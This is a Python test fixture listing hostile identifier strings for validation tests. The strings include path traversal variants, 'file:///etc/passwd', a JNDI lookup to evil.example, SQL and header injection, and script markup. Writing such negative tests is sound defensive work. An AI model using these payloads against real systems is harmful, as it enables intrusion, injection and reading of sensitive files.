"""E1-E3 of reliability.md: ids that would be another address, if they ever came near one."""

from tests.corpus.case import Case, keys, uuid

_HOSTILE = {
    "dot": ".",
    "dot-dot": "..",
    "parent": "../admin",
    "parent-after-an-id": f"{uuid(1)}/../../admin",
    "slash": "a/b",
    "slash-after-an-id": f"{uuid(1)}/keys",
    "backslash": f"..\\{uuid(1)}",
    "query": f"{uuid(1)}?force=true",
    "fragment": f"{uuid(1)}#x",
    "semicolon": f"{uuid(1)};v=1",
    "percent-slash": f"{uuid(1)}%2f..",
    "percent-dot": "%2e%2e",
    "percent-nul": f"{uuid(1)}%00",
    "twice-percent": "%252e%252e%252f",
    "address": "http://evil.example/x",
    "address-without-scheme": "//evil.example/x",
    "user-and-host": "x@evil.example",
    "script": "javascript:alert(1)",
    "file": "file:///etc/passwd",
    "header-injection": f"{uuid(1)} HTTP/1.1 Host: evil.example",
    "star": "*",
    "braces": "{id}",
    "colon": ":id",
    "sql": "' OR 1=1 --",
    "template": "${jndi:ldap://evil.example}",
    "markup": "<script>alert(1)</script>",
    "full-width-slash": f"{uuid(1)}／..",
    "full-width-dots": "．．",
    "division-slash": f"{uuid(1)}∕x",
    "very-long": "a" * 8000,
    "null-word": "null",
    "undefined-word": "undefined",
    "zero": "0",
    "emoji": "🍣",
}

CASES = tuple(Case("E01", name, 3, keys(cell, uuid(9))) for name, cell in _HOSTILE.items())
